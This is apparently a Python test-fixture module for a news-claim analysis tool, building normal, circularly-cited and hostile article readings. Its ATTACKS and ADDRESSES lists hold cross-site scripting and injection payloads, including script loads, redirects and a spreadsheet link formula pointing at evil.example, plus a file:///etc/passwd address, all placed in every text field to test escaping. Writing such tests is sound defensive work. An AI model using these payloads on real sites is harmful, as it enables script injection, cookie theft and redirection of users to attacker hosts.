"""Readings for the desk: sound ones of a few outlets and days, and hostile ones."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from reportedly.data import (
    Actor,
    Article,
    Block,
    Claim,
    Event,
    Figure,
    Hop,
    Image,
    Outcome,
    Party,
    Phrase,
    Reading,
    Removed,
    Span,
    Timex,
    content_hash,
)
from tests.ledger.making import outcome, reading
from tests.threads.making import flood, told_by

OUTLETS = ("Coast Herald", "The Harbour Post", "Inland Daily")

ATTACKS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title></style></textarea><script src=//evil.example/x.js></script>",
    "<style>*{display:none}</style>",
    "{{ 7*7 }}{% include 'base.html' %}",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    '=HYPERLINK("http://evil.example","x")',
    "W" * 3000,
)
ADDRESSES = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/" onmouseover="alert(1)',
    "http://[::1",
    "//evil.example/x",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "file:///etc/passwd",
)


def several() -> Iterator[Outcome]:
    """Twelve articles of three outlets over four days; their figures disagree; two share an address."""
    for number in range(1, 13):
        uri = f"https://news.example/{number}" if number != 12 else "https://news.example/11"
        made = reading(number, published=f"2025-03-{9 + number % 4:02}", uri=uri)
        figures = (replace(made.figures[0], status="destroyed"), replace(made.figures[1], status="injured"))
        article = replace(made.article, outlet=OUTLETS[number % 3])
        claims = made.claims
        if number % 4 == 0:  # somebody whom the article does not tell who it is
            claims = (replace(claims[0], source=replace(claims[0].source, actor=None)), *claims[1:])
        yield outcome(number, of=replace(made, article=article, figures=figures, claims=claims))


def hostile() -> Iterator[Outcome]:
    """An article for each attack, with the attack in every field that takes words."""
    for number, attack in enumerate(ATTACKS):
        yield outcome(number, of=attacked(attack, ADDRESSES[number % len(ADDRESSES)]))


def attacked(attack: str, uri: str) -> Reading:
    """A reading all of whose words are the attack."""
    text = f"{attack}\n\n{attack} said {attack} and {attack}"
    first = Span(0, len(attack))
    start = len(attack) + 2
    source = Span(start, start + len(attack))
    content = Span(source.end + 6, source.end + 6 + len(attack))
    inside = Span(content.start + 1, content.end - 1)
    id_ = content_hash("attacker", attack)
    cut = text[inside.start : inside.end]
    claim = Claim(
        id=content_hash("claim", attack),
        kind="accusation",
        quotation="direct",
        source=Party(spans=(source,), text=attack, actor=id_),
        cue=Phrase(spans=(Span(source.end + 1, source.end + 5),), text="said"),
        content=Phrase(spans=(content,), text=attack),
        via=(Hop(kind="outlet", spans=(first,), text=attack, actor=id_),),
        addressee=Party(spans=(first,), text=attack, actor=id_),
        said_on="2025-03-10",
        figures=("f1",),
        times=("t1",),
        events=("e1",),
        score=0.5,
        made_by="attack",
    )
    nested = replace(
        claim, id=content_hash("inner", attack), parent=claim.id, content=Phrase(spans=(inside,), text=cut)
    )
    return Reading(
        article=Article(
            id=content_hash(uri, text),
            uri=uri,
            outlet=attack,
            headline=attack,
            standfirst=attack,
            byline=(attack,),
            published="2025-03-10",
            language="en",
            section=attack,
            canonical=uri,
            agency=attack,
            text=text,
            blocks=(
                Block(kind="headline", start=0, end=len(attack)),
                Block(kind="paragraph", start=start, end=len(text)),
            ),
            images=(Image(caption=attack, credit=attack),),
            related=(uri,),
            removed=(Removed(kind="related", text=attack),),
        ),
        claims=(claim, nested),
        figures=(
            Figure(id="f1", spans=(inside,), text=cut, value=7, low=7, high=7, unit=attack, counted=attack, of=attack,
                   per=attack, status=attack),
        ),
        times=(Timex(id="t1", spans=(inside,), text=cut, type="DATE", value=attack),),
        actors=(Actor(id=id_, name=attack, kind="person", country=attack, role=attack, mentions=(source,)),),
        events=(Event(id="e1", type="ACCUSE", mode=attack, actor=id_, recipient=id_, date=attack, claim=claim.id),),
    )  # fmt: skip


def circular() -> Iterator[Outcome]:
    """Two outlets that cite each other, then a flood of which two parties count otherwise."""
    ring = (
        told_by(
            "Fjord Mail", "2025-05-01T08:00", "Submarine seen in Sand Bay",
            "A submarine has been seen in Sand Bay, the Capital Courier reported.",
        ),
        told_by(
            "Capital Courier", "2025-05-01T12:00", "Submarine in Sand Bay",
            "A submarine has been seen in Sand Bay, the Fjord Mail reported.",
        ),
    )  # fmt: skip
    for number, made in enumerate((*ring, *flood(rescued="around 31")), 500):
        yield outcome(number, of=made)
